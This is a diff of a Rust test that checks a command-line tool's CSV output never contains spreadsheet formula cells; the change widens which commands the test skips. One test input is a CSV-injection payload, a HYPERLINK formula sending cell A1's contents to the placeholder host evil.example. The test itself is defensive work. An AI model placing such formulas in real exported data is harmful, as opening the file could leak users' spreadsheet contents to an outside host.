@@ -32,7 +32,9 @@ fn t15_no_cell_is_a_formula() {
         "=HYPERLINK(\"http://evil.example/?\"&A1)",
     ] {
         let ticket = saying(formula);
-        for command in COMMANDS.into_iter().filter(|command| command[0] != "show") {
+        for command in
+            COMMANDS.into_iter().filter(|command| !["show", "explain"].contains(&command[0]))
+        {
             let text = page(&[command, &["-o", "csv"]].concat(), &ticket);
             let mut reader = csv::Reader::from_reader(text.as_bytes());
             let mut cells = 0;
